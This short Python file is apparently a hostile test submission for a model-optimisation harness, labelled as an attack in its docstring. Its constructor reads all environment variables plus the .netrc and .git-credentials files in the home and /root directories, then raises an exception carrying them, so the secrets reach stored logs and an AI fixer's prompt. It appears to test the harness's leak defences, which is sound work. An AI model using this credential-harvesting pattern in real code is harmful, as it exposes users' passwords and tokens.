"""Attack: puts every credential-looking value it can see (its environment, the files a
home holds) into its exception message, which goes to the store and the fixer's prompt."""

import os
from pathlib import Path

import torch.nn as nn

LEAK = os.environ.get("PIKE_TEST_LEAK", "")  # a value the test planted where it can read


class ModelNew(nn.Module):
    def __init__(self, dim, hidden):
        super().__init__()
        seen = [f"{k}={v}" for k, v in os.environ.items()]
        for name in (".netrc", ".git-credentials"):
            for home in (Path.home(), Path("/root")):
                try:
                    seen.append((home / name).read_text())
                except OSError:
                    pass
        raise RuntimeError("leak: " + LEAK + " | " + " ".join(seen))
